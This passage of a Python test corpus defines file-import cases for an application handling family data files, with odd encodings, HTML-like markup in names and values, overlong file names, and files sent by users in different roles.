         lambda: csv_file(headed(("GM-902", "Siti Ä Ñoño", "Jl. Ü", "1", "2", "Komet", "")),
                          encoding="cp1252"),
         None, ("import_preview",), PREVIEW),
        ("markup_values", "keluarga.csv", lambda: csv_file(headed(markup_row)), None,
         ("import_unknown_kelurahan",), PREVIEW),
        ("markup_file_name", "<b>keluarga</i>.csv", lambda: good_csv, None, ("import_preview",), PREVIEW),
        ("long_file_name", "&<>" * 82 + ".csv", lambda: good_csv, None, ("import_preview",), PREVIEW),
        ("long_extension", "k." + "<" * 250, lambda: good_csv, None, ("import_wrong_type",), nothing),
    ]
    echoes = {"html_extension": ".<b>", "entity_extension": ".&bogus;",
              "markup_file_name": "<b>keluarga</i>.csv", "markup_values": "<i>Komet"}
    cases = [Case(f"import_{name}", "import files", "importer", document=Document(file_name, build, declared),
                  keys=keys, may_change=changes, echo=echoes.get(name))
             for name, file_name, build, declared, keys, changes in rows]
    sample = Document("keluarga.xlsx", lambda: xlsx_file(headed(GOOD_ROW)))
    return cases + [
        Case(f"file_from_{sender}", "files from the wrong place", sender, document=sample, keys=(key,))
        for sender, key in [("admin", "import_after_command"), ("kader", "not_understood"),
                            ("stranger", "stranger"), ("official", "not_understood")]
    ]


CASES: tuple[Case, ...] = (*_texts(), *_commands(), *_callbacks(), *_files())
CATEGORIES: tuple[str, ...] = tuple(dict.fromkeys(case.category for case in CASES))


def group(name: str) -> list[Case]:
    """The cases one Application runs, in corpus order."""
    return [case for case in CASES if case.group == name]
